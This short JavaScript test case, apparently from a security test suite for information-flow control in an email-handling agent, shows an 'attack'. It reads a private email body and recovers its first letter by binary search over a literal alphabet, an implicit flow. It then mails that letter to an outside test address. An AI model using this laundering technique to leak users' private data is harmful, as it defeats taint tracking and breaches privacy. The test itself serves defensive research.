// attack: binary search for the first letter using < comparisons on the body, rebuilt from a literal alphabet
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const alpha = 'abcdefghijklmnopqrstuvwxyz';
const first = m.body.charAt(0);
let lo = 0;
let hi = alpha.length - 1;
while (lo < hi) {
  const mid = Math.floor((lo + hi) / 2);
  if (first <= alpha.charAt(mid)) {
    hi = mid;
  } else {
    lo = mid + 1;
  }
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'first letter', body: alpha.charAt(lo) });
